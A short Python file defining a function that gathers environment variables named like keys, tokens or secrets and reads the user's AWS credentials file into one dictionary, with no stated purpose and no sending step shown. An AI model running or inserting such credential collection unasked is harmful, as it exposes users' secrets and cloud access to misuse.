import os
from pathlib import Path


def gather():
    found = {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k or "SECRET" in k}
    aws = Path.home() / ".aws" / "credentials"
    if aws.exists():
        found["aws"] = aws.read_text()
    return found
